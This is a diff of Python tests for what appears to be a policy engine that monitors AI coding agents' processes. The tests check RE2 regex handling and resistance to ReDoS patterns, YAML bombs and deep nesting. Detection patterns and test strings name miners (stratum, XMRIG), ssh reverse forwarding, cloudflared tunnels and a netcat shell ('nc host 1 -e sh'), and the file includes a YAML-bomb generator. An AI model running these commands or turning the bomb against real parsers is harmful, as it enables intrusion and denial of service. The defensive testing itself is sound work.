@@ -6,11 +6,14 @@ import hashlib
 import ipaddress
 import re
 import textwrap
+import time
 from pathlib import Path
 
 import pytest
+from timebox import within
 
 from monitor.config import AgentSpec, Matcher, default_config
+from monitor.engine import evaluate_exec
 from monitor.errors import ConfigError, Location
 from monitor.policy import (
     Action,
@@ -28,6 +31,7 @@ from monitor.policy import (
     normalise_network,
     parse_duration,
 )
+from monitor.regex import Regex, compile_pattern
 
 SRC = "policy.yaml"
 DOCS = Path(__file__).resolve().parents[2] / "docs" / "policy.md"
@@ -126,7 +130,7 @@ def test_full_policy_compiles_into_expected_objects() -> None:
     assert p.rules[1].agents == frozenset({"claude-code"})
     assert p.rules[1].description == ""
     assert p.rules[1].match == ExecMatch(exe=("/tmp/*", "/dev/shm/*"),
-                                         argv=(re.compile("--donate-level"),))
+                                         argv=(compile_pattern("--donate-level"),))
     assert p.rules[2].action == Action.KILL_AGENT
     assert p.rules[2].match == ExecMatch(ssh=frozenset({"remote_forward", "dynamic_forward"}))
     assert p.rules[3].match == ConnectMatch(
@@ -365,7 +369,7 @@ MALFORMED: list[tuple[str, str, int, str, str]] = [
      "unknown key 'ports' (allowed: address, port)"),
     ("bad-regex", HEAD + "rules:\n  - name: a\n    event: exec\n    action: kill\n"
      "    match:\n      argv: ['stratum+(tcp']\n", 9, "rules[0].match.argv[0]",
-     "bad regular expression 'stratum+(tcp'"),
+     "refused regular expression 'stratum+(tcp': missing )"),
     ("relative-glob", HEAD + "rules:\n  - {name: a, event: exec, action: kill, "
      "match: {exe: ['tmp/*']}}\n", 5, "rules[0].match.exe[0]",
      "must be an absolute path (start with '/')"),
@@ -537,3 +541,173 @@ def test_every_full_example_in_the_docs_loads() -> None:
     assert len(examples) >= 2
     for text in examples:
         load_policy_text(text, "docs/policy.md", user_lookup={"ci": 1002}.__getitem__)
+
+
+# --- hostile input (issue 10): patterns that backtrack, YAML bombs, deep nesting ---------
+
+REDOS_POLICY = HEAD + """\
+rules:
+  - name: nested-plus
+    event: exec
+    action: kill
+    match:
+      argv: ['(a+)+$', '(x+x+)+y', '^(\\w+\\s?)*$z']
+"""
+
+
+def _judge_long_lines() -> list[tuple[str, ...]]:
+    policy = load(REDOS_POLICY)
+    out = []
+    for line in ("x " + "a" * 50_000 + "b", "x " + "x" * 50_000, "w " * 20_000 + "!",
+                 "x " + "a" * 50_000):
+        verdicts = evaluate_exec(policy, agent="bot", session=1, pid=2, exe="/usr/bin/x",
+                                 comm="x", argv=line.split(" "))
+        out.append(tuple(v.rule for v in verdicts))
+    return out
+
+
+def test_an_argv_rule_that_would_backtrack_is_judged_in_linear_time() -> None:
+    # Python's re took 68 s on one such exec, freezing the event loop; RE2 takes
+    # microseconds. The last line (ends in "a") matches (a+)+$: the rule still works.
+    start = time.monotonic()
+    assert within(10, _judge_long_lines) == [(), (), (), ("nested-plus",)]
+    assert time.monotonic() - start < 5
+
+
+@pytest.mark.parametrize(("pattern", "why"), [
+    (r"(a)\1", "backreferences"),
+    (r"(?P<x>a)(?P=x)", "backreferences"),
+    (r"(?P<x>a)(?P>x)", "recursion"),
+    (r"^(?!.*access).*--url", "lookaround"),
+    (r"(?<=-)-url", "lookaround"),
+    (r"(?<!x)y", "lookaround"),
+    (r"a++", "possessive"),
+    (r"(?>ab|a)c", "atomic groups"),
+    (r"(?x) a b", "verbose mode"),
+    (r"--url\Z", r"write \z"),
+    (r"a{1001}", "above {1000}"),
+    (r"\pL{1000}", "more than 1 MiB"),
+])
+def test_a_pattern_re2_cannot_run_is_refused_naming_the_construct(pattern: str,
+                                                                  why: str) -> None:
+    [(loc, reason)] = problems(HEAD + "rules:\n  - name: a\n    event: exec\n"
+                               f"    action: kill\n    match:\n      argv: [ok, '{pattern}']\n")
+    assert (loc.line, loc.key) == (9, "rules[0].match.argv[1]")
+    assert reason.startswith(f"refused regular expression {pattern!r}: ")
+    assert why in reason and "RE2" in reason
+
+
+def test_policy_check_names_every_refused_pattern_and_exits_2(
+        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    from monitor.cli import main
+
+    path = tmp_path / "p.yaml"
+    path.write_text(HEAD + "lists:\n  bad: ['(a)\\1']\nrules:\n  - name: a\n    event: exec\n"
+                    "    action: kill\n    match:\n      argv: ['(?=x)', '@bad', 'fine']\n")
+    assert main(["policy", "check", str(path)]) == 2
+    err = capsys.readouterr().err
+    assert f"{path}:5: lists.bad[0]: refused regular expression '(a)\\\\1': backreferences" in err
+    assert f"{path}:11: rules[0].match.argv[0]: refused regular expression '(?=x)': " \
+           "lookaround" in err
+    assert "Traceback" not in err
+
+
+def test_argv_with_bytes_that_are_not_utf8_is_matched_whole() -> None:
+    # argv is bytes; monitor/events.py decodes it with surrogateescape. RE2 matches UTF-8:
+    # each byte that is not UTF-8 is matched as U+FFFD, so . and [^ ] still match it.
+    policy = load(HEAD + """\
+rules:
+  - {name: marker, event: exec, action: kill, match: {argv: ['--token=[^ ]+ --go$']}}
+  - {name: any, event: exec, action: kill, match: {argv: ['^evil .{3}x']}}
+  - {name: named, event: exec, action: alert, match: {argv: ['\\x{FFFD}{2}']}}
+""")
+    argv = [b.decode("utf-8", "surrogateescape")
+            for b in (b"evil", b"\xff\xfe\xc3x", b"--token=\x80\x81abc", b"--go")]
+    verdicts = evaluate_exec(policy, agent="bot", session=1, pid=2, exe="/usr/bin/evil",
+                             comm="evil", argv=argv)
+    assert sorted(v.rule for v in verdicts) == ["any", "marker", "named"]
+
+
+# --- YAML bounds ---------------------------------------------------------------------------
+
+
+def _laughs(levels: int, key: str = "mode") -> str:
+    lines = ["l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
+    for i in range(1, levels):
+        lines.append(f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 9) + "]")
+    return "\n".join(lines) + f"\n{key}: *l{levels - 1}\n"
+
+
+def _problems_within(seconds: float, text: str) -> list[tuple[Location, str]]:
+    return within(seconds, lambda: problems(text))
+
+
+@pytest.mark.parametrize("key", ["mode", "rules", "lists", "agents"])
+def test_a_yaml_bomb_is_refused_at_once_without_printing_the_tree(key: str) -> None:
+    # 9 ** 9 = 387 million strings once expanded; an error message that printed the
+    # tree ran past 30 s and 645 MB
+    found = _problems_within(10, _laughs(9, key))
+    assert found[0][0].file == SRC and found[0][0].line > 1
+    assert "aliases expanded" in found[0][1] and "YAML bomb" in found[0][1]
+    assert sum(len(reason) for _, reason in found) < 2000
+
+
+def test_a_small_bomb_under_the_limits_is_reported_without_its_tree() -> None:
+    found = _problems_within(10, "mode: monitor\n" + _laughs(4, "rules"))
+    assert any(loc.key == "rules[0]" for loc, _ in found)
+    assert sum(len(reason) for _, reason in found) < 20_000, found[:3]
+
+
+@pytest.mark.parametrize("text", [
+    HEAD + "rules: " + "[" * 100_000 + "]" * 100_000 + "\n",
+    HEAD + "rules: " + "{a: " * 50_000 + "1" + "}" * 50_000 + "\n",
+    HEAD + "rules:\n" + "".join("  " * i + "- x:\n" for i in range(1, 100)),
+])
+def test_deep_nesting_is_refused_with_its_line_not_a_recursion_error(text: str) -> None:
+    [(loc, reason)] = _problems_within(10, text)
+    assert loc.file == SRC and 4 <= loc.line <= 40
+    assert "nested deeper than 64 levels" in reason
+
+
+def test_limits_on_size_aliases_and_numbers() -> None:
+    big = HEAD + "# " + "x" * (1 << 20) + "\n"
+    [(loc, reason)] = problems(big)
+    assert loc == Location(SRC) and "larger than 1 MiB" in reason
+    many = HEAD + "lists:\n  a: &a [1]\n" + "".join(f"  b{i}: *a\n" for i in range(1001))
+    [(loc, reason)] = problems(many)
+    assert loc.line == 1006 and "more than 1000 aliases" in reason
+    huge = HEAD + "rules:\n  - {name: a, event: processes, action: kill, match: {above: " \
+        + "9" * 5000 + "}}\n"
+    [(loc, reason)] = problems(huge)
+    assert (loc.line, loc.key) == (5, "rules[0].match.above") and "number too long" in reason
+    [(loc, reason)] = problems(HEAD + "rules: \udcff\n")
+    assert loc.line == 4 and "not valid Unicode" in reason
+
+
+def test_the_c_yaml_loader_is_used_where_installed() -> None:
+    import yaml
+
+    from monitor import yamlcompose
+
+    expected = yaml.CSafeLoader if yaml.__with_libyaml__ else yaml.SafeLoader
+    assert yamlcompose.LOADER is expected
+
+
+SEARCH_PATTERNS = [r"(^|[ =])stratum\+(tcp|ssl|tls)://", r"--url([ =]|$)", r"^ssh .*-R",
+                   r"(?i)XMRIG", r"\bnc\b.* -e", r"a{2,3}b", r"^$", r"x|", r"[^ ]+=[0-9]+$"]
+SEARCH_TEXTS = ["", "ssh -R 1:x:2 host", "cloudflared --url=x", "cloudflared --urlx",
+                "xmrig --donate-level 1", "run stratum+tcp://pool:3333", "nc host 1 -e sh",
+                "aab", "aaaab", "k=12", "k=12 ", "é --url", "a\nb", "x"]
+
+
+@pytest.mark.parametrize("pattern", SEARCH_PATTERNS)
+def test_re2_search_answers_like_python_re_search(pattern: str) -> None:
+    # what the policy meant under Python's re is what it means under RE2 (for patterns
+    # both accept), by the fast path and by re2's public search() alike
+    regex = compile_pattern(pattern)
+    public = Regex(pattern, regex._compiled)
+    object.__setattr__(public, "_match", None)
+    for text in SEARCH_TEXTS:
+        expected = re.search(pattern, text) is not None
+        assert (regex.search(text) is not None) == expected, text
+        assert (public.search(text) is not None) == expected, text
